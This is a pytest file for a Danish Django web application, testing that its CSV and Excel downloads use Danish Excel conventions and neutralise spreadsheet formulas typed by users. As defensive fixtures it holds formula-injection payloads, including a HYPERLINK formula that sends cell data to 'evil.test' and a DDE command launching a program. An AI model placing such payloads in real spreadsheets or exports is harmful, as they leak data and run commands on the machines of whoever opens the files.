"""Every spreadsheet download opens as Danish Excel reads it (issue 15): UTF-8 with a
byte-order mark, semicolons, a decimal comma, headers in the interface's language —
and no cell that a spreadsheet would evaluate, whatever users typed into the data.

The downloads are found in the permission matrix (every URL of the project), so a new
CSV download is tested here without being listed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from klynge.core.downloads import csv_cell, neutralise, table_csv, table_xlsx
from klynge.meetings import services as meeting_services
from klynge.meetings.models import Attendance
from klynge.registry.models import Cluster
from tests.test_permissions_matrix import MATRIX
from tests.world import PASSWORD, build_world, meeting_2024, quarterly_fee_2024

HOSTILE_CLUSTER = '=HYPERLINK("http://evil.test/?x="&A1,"Klik")'
HOSTILE = ["@SUM(1+1)*cmd|' /C calc'!A0", "+4512345678", "-2+3", "=1+1", "\t=2"]
DANISH_NUMBER = re.compile(r"^-?\d+(,\d+)?$")
POINT_DECIMAL = re.compile(r"^-?\d+\.\d+$")
# Who downloads what: the first of these roles the matrix lets in.
READERS = ["coordinator_a", "secretariat", "region_a", "member_a"]
# The downloads that must be found (a guard against finding none).
KNOWN = {
    "registry:cluster.export",
    "overviews:coverage.unclustered_csv",
    "quality:clinic.mine_csv",
    "quality:cluster.csv",
    "quality:cluster.run_csv",
    "quality:cluster.dashboard_csv",
    "finance:grants.csv",
    "finance:fees.report",
    "meetings:attendance.export",
    "meetings:activity_report.download",
}


# --- The convention, cell by cell ---------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("17812.50"), "17812,50"),
        (0.783, "0,783"),
        (1.0, "1"),
        (0.00001, "0,00001"),
        (-3, "-3"),
        (1234567, "1234567"),
        (dt.date(2026, 12, 1), "2026-12-01"),
        (None, ""),
        ("Køge", "Køge"),
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("\t=1", "'\t=1"),
    ],
)
def test_a_cell_is_written_as_danish_excel_reads_it(value, cell):
    assert csv_cell(value) == cell


def test_the_csv_has_a_bom_semicolons_and_crlf():
    data = table_csv(["Navn", "Beløb"], [["Æblegården", Decimal("12.50")]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "Navn;Beløb\r\nÆblegården;12,50\r\n"


def test_the_xlsx_has_typed_cells_and_no_formulas(tmp_path):
    data = table_xlsx(
        ["Klynge", "Stiftet", "Læger", "Andel", "Beløb"],
        [[HOSTILE_CLUSTER, dt.date(2019, 3, 1), 6, 0.783, Decimal("17812.50")]],
    )
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    name, founded, doctors, share, amount = sheet[2]
    assert name.data_type == "s" and name.value == HOSTILE_CLUSTER
    assert founded.is_date and founded.value.date() == dt.date(2019, 3, 1)
    assert doctors.value == 6 and share.value == 0.783 and amount.value == 17812.5
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Køge Lægehus 1") == "Køge Lægehus 1"
    assert neutralise("1+1") == "1+1"


# --- Every download of the project --------------------------------------------------------


@pytest.fixture
def hostile_world(db):
    """The test world with text a spreadsheet would evaluate wherever users type text
    that reaches a download, and numbers with decimals in every kind of download."""
    w = build_world()
    Cluster.objects.filter(pk=w.cluster_a.pk).update(name=HOSTILE_CLUSTER)
    w.cluster_a.refresh_from_db()
    coordinator = w.users["coordinator_a"]
    quarterly_fee_2024(w, HOSTILE[0])
    # A meeting held in 2024 (activity report) and the upcoming one (attendance list).
    held = meeting_2024(w, HOSTILE[3])
    doctors = list(meeting_services.selectors.invited_doctors(held))
    meeting_services.attendance_record(
        actor=coordinator,
        meeting=held,
        marks={
            doctors[0].pk: (Attendance.Status.PRESENT, ""),
            doctors[1].pk: (Attendance.Status.EXCUSED, HOSTILE[3]),
        },
    )
    upcoming = MATRIX["meetings:attendance.export"][0](w)["pk"]
    meeting = held.__class__.objects.get(pk=upcoming)
    meeting_services.guest_add(
        actor=coordinator, meeting=meeting, name=HOSTILE[1], kind="other", organisation=HOSTILE[2]
    )
    meeting_services.attendance_record(
        actor=coordinator,
        meeting=meeting,
        marks={doctors[0].pk: (Attendance.Status.EXCUSED, HOSTILE[4])},
    )
    return w


def _downloads(w):
    """(name, url, role) for every download in the matrix, as the first reader allowed."""
    found = []
    for name, (kwargs, expected) in MATRIX.items():
        args = kwargs(w)
        if (
            not ("csv" in name or args.get("fmt") in ("csv", "xlsx") or name in KNOWN)
            or args.get("fmt") == "pdf"
        ):
            continue
        role = next((r for r in READERS if expected.get(r) == 200), None)
        if role is None:
            continue
        for fmt in ("csv", "xlsx") if args.get("fmt") == "csv" else (None,):
            url_args = {**args, "fmt": fmt} if fmt else args
            try:
                url = reverse(name, kwargs=url_args)
            except Exception:
                continue
            found.append((name, url, role))
    return found


def _read_as_danish_excel(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel reads æøå as garbage"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _is_download(response) -> bool:
    kind = response.get("Content-Type", "")
    return kind.startswith("text/csv") or "spreadsheetml" in kind


def test_every_download_opens_as_danish_excel_reads_it(hostile_world, client):
    w = hostile_world
    seen: set[str] = set()
    problems: list[str] = []
    numbers = 0
    for name, url, role in _downloads(w):
        client.logout()
        if w.users[role] is not None:
            assert client.login(email=w.users[role].email, password=PASSWORD)
        response = client.get(url)
        if response.status_code == 404 and "xlsx" in url:
            continue  # a CSV-only download
        assert response.status_code == 200, (name, url, response.status_code)
        assert _is_download(response), (name, response["Content-Type"])
        seen.add(name)
        if "spreadsheetml" in response["Content-Type"]:
            problems += _check_xlsx(name, response.content)
            continue
        rows = _read_as_danish_excel(response.content)
        header, body = rows[0], rows[1:]
        assert len(header) > 1, f"{name}: one column — not separated by semicolons"
        assert body, f"{name}: the test world gives this download no rows"
        for h in header:
            if re.fullmatch(r"[a-z_]+", h):
                problems.append(f"{name}: header {h!r} is a program's key, not Danish")
        for line, row in enumerate(body, start=2):
            if len(row) != len(header):
                problems.append(f"{name}:{line}: {len(row)} cells under {len(header)} headers")
            for cell in row:
                if POINT_DECIMAL.match(cell):
                    problems.append(f"{name}:{line}: {cell!r} has a decimal point")
                if DANISH_NUMBER.match(cell):
                    numbers += 1
                elif cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    problems.append(f"{name}:{line}: {cell!r} is a live formula")
    assert seen >= KNOWN, f"downloads not reached: {KNOWN - seen}"
    assert numbers > 50
    assert not problems, "\n".join(problems)


def _check_xlsx(name: str, data: bytes) -> list[str]:
    problems = []
    if b"<f>" in _sheet_xml(data):
        problems.append(f"{name}: a formula in the workbook")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        for cell in row:
            # Identifiers (CVR, provider numbers) are text on purpose; amounts are not.
            if cell.data_type == "s" and re.fullmatch(r"-?\d+[,.]\d+", str(cell.value)):
                problems.append(f"{name}: number {cell.value!r} stored as text")
    if not any(c.is_date for row in rows for c in row):
        problems.append(f"{name}: no date cell")
    return problems


def test_the_hostile_text_is_in_the_downloads_but_harmless(hostile_world, client):
    """The neutralised text is still there, with its apostrophe: nothing is lost."""
    w = hostile_world
    assert client.login(email=w.users["coordinator_a"].email, password=PASSWORD)
    fees = client.get(reverse("finance:fees.report", args=[w.cluster_a.slug, 2024, "csv"]))
    rows = _read_as_danish_excel(fees.content)
    assert rows[0] == ["Modtager", "Udbetalt honorar (kr.)"]
    assert rows[1] == ["'" + HOSTILE[0], "17812,50"]
    report = client.get(
        reverse("meetings:activity_report.download", args=[w.cluster_a.slug, 2024, "csv"])
    )
    (line,) = _read_as_danish_excel(report.content)[1:]
    assert line[0] == "'" + HOSTILE_CLUSTER and line[3] == "'" + HOSTILE[3]
    assert line[5:8] == ["1", "2", "0,5"]  # present, registered, share: numbers


def test_headers_follow_the_interface_language(hostile_world, client):
    w = hostile_world
    assert client.login(email=w.users["coordinator_a"].email, password=PASSWORD)
    url = reverse("finance:fees.report", args=[w.cluster_a.slug, 2024, "csv"])
    danish = _read_as_danish_excel(client.get(url).content)[0]
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    english = _read_as_danish_excel(client.get(url).content)[0]
    assert danish == ["Modtager", "Udbetalt honorar (kr.)"]
    assert english == ["Recipient", "Fees paid (kr.)"]


def test_the_register_workbook_has_dates_and_numbers(hostile_world, client):
    response = client.get(reverse("registry:cluster.export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header[:2] == ("Klynge", "Region")
    by_name = {r[0]: r for r in rows}
    a = by_name[HOSTILE_CLUSTER]
    assert a[header.index("Læger")] == 6
    assert a[header.index("Stiftet")] == dt.datetime(2019, 3, 1)
